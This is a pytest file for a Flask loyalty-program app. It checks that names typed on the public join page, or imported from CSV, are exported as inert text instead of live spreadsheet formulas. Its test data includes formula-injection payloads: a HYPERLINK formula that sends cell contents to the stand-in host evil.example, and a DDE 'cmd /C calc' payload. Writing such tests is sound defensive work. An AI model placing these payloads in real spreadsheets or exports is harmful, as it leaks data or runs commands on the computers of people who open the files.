"""A name typed on the public join page never becomes a live formula in the owner's CSV export,
and an export whose cells were marked as text imports back unchanged (CLI and dashboard)."""
from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from flask.testing import FlaskClient, FlaskCliRunner
from sqlalchemy import func, select

from app.extensions import db
from app.models import LedgerEntry, Member
from tests.conftest import Api
from tests.dashboard.test_enrol import login
from tests.dashboard.test_member_imports import finished_page, upload
from tests.enrollment.helpers import join

EVIL = '=HYPERLINK("http://evil.example/?"&B2)'
EVIL_CELL = '"\'=HYPERLINK(""http://evil.example/?""&B2)"'  # quoted, with one single quote in front
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# Names, phones and balances that start the way a formula does, or as a marked cell already does.
PEOPLE = [
    ("=1+1", "+39 333 1234567", 1500),
    ("+Ada", "", 0),
    ("-Bea-", "(06) 1234 5678", 7),
    ("@Cid", "+1 212 555 0100", 42),
    ("'=Dan", "", 1000),
    ("O'Neil", "", 3),
    ("'Eva", "", 0),
    ("Fede;=1+1", "", 999),
    ('=cmd|" /C calc"!A0', "+39 06 1234567", 12),
]


def _second_program(owner: Api) -> dict[str, Any]:
    response = owner.post("/programs", {"name": "Second Club", "tiers": [{"name": "Bronze", "min_points": 0},
                                                                         {"name": "Gold", "min_points": 1000}]})
    assert response.status_code == 201, response.get_json()
    return dict(response.get_json())


def _enrol_people(owner: Api, program: dict[str, Any]) -> None:
    for n, (name, phone, points) in enumerate(PEOPLE):
        body = {"name": name, "email": f"p{n}@example.com", "consent": {"terms": True, "marketing": n % 2 == 0}}
        response = owner.post(f"/programs/{program['id']}/members", {**body, **({"phone": phone} if phone else {})})
        assert response.status_code == 201, response.get_json()
        if points:
            earned = owner.post(f"/members/{response.get_json()['id']}/transactions", {"points": points})
            assert earned.status_code == 201, earned.get_json()


def _people(program_id: int) -> list[tuple[str, str, str | None, int, str | None]]:
    """Each current member's name, e-mail, phone, balance and tier, by e-mail."""
    db.session.expire_all()
    balance = select(func.coalesce(func.sum(LedgerEntry.points), 0)).where(LedgerEntry.member_id == Member.id)
    rows = db.session.execute(
        select(Member.name, Member.email, Member.phone, balance.scalar_subquery(), Member.tier)
        .where(Member.program_id == program_id).order_by(Member.email)
    ).all()
    return [(r[0], r[1], r[2], int(r[3]), r[4]) for r in rows]


def _dashboard_export(client: FlaskClient, program_id: int) -> str:
    response = client.get(f"/dashboard/programs/{program_id}/members.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return response.get_data(as_text=True)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_a_formula_typed_on_the_join_page_is_text_in_both_exports(runner: FlaskCliRunner, owner: Api,
                                                                  program: dict[str, Any],
                                                                  client: FlaskClient) -> None:
    joined = join(client, program["slug"], name=EVIL, email="evil@example.com", phone="+39 333 7654321")
    assert joined.status_code in (200, 302, 303), joined.get_data(as_text=True)
    assert [p[:3] for p in _people(program["id"])] == [(EVIL, "evil@example.com", "+39 333 7654321")]
    cli = runner.invoke(args=["export-members", str(program["id"])])
    assert cli.exit_code == 0, cli.output
    login(client)
    dashboard = _dashboard_export(client, program["id"])
    for text in (cli.stdout, dashboard):
        line = text.splitlines()[1]
        assert line.startswith(EVIL_CELL + ',"evil@example.com","\'+39 333 7654321",'), line
        assert [cell for cell in _cells(text) if cell[:1] in DANGEROUS] == []


def test_every_dangerous_first_character_is_marked_in_both_exports(runner: FlaskCliRunner, owner: Api,
                                                                   program: dict[str, Any], client: FlaskClient,
                                                                   tmp_path: Path) -> None:
    # Every way in folds the whitespace around a name, so a stored name never starts with a tab or a
    # carriage return (test_csv_cells covers those); a file's unmarked cells are taken as they are.
    names = [f"{first}SUM(1+1)*cmd" for first in ("=", "+", "-", "@")]
    rows = "".join(f'"{name}",m{n}@example.com\n' for n, name in enumerate(names))
    path = tmp_path / "members.csv"
    path.write_text("name,email\n" + rows, encoding="utf-8", newline="")
    assert runner.invoke(args=["import-members", str(program["id"]), str(path)]).exit_code == 0
    stored = sorted(p[0] for p in _people(program["id"]))
    assert stored == sorted(names)
    login(client)
    for text in (runner.invoke(args=["export-members", str(program["id"])]).stdout,
                 _dashboard_export(client, program["id"])):
        exported = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
        assert sorted(exported) == sorted("'" + name for name in stored)
        assert [cell for cell in _cells(text) if cell[:1] in DANGEROUS] == []


def test_a_cli_export_imports_unchanged(runner: FlaskCliRunner, owner: Api, program: dict[str, Any],
                                        tmp_path: Path) -> None:
    _enrol_people(owner, program)
    exported = runner.invoke(args=["export-members", str(program["id"])])
    assert exported.exit_code == 0, exported.output
    assert '"\'=1+1","p0@example.com","\'+39 333 1234567"' in exported.stdout
    assert '"\'\'=Dan",' in exported.stdout and '"O\'Neil",' in exported.stdout and '"\'Eva",' in exported.stdout
    other = _second_program(owner)
    path = tmp_path / "again.csv"
    path.write_text(exported.stdout, encoding="utf-8", newline="")
    again = runner.invoke(args=["import-members", str(other["id"]), str(path)])
    assert again.stdout.strip() == f"imported={len(PEOPLE)} skipped=0", again.output
    original = _people(program["id"])
    assert [(name, phone or None, points) for name, phone, points in PEOPLE] == [(p[0], p[2], p[3]) for p in original]
    assert _people(other["id"]) == original
    assert runner.invoke(args=["export-members", str(other["id"])]).stdout == exported.stdout


def test_a_dashboard_export_uploads_unchanged(owner: Api, program: dict[str, Any], client: FlaskClient) -> None:
    _enrol_people(owner, program)
    other = _second_program(owner)
    login(client)
    exported = _dashboard_export(client, program["id"])
    assert '"\'=1+1","p0@example.com","\'+39 333 1234567"' in exported and '"\'-Bea-",' in exported
    response = upload(client, other["id"], exported.encode("utf-8"))
    assert response.status_code == 303, response.get_data(as_text=True)
    assert 'id="import-refused">0<' in finished_page(client, response.headers["Location"])
    assert _people(other["id"]) == _people(program["id"])
    assert _dashboard_export(client, other["id"]) == exported
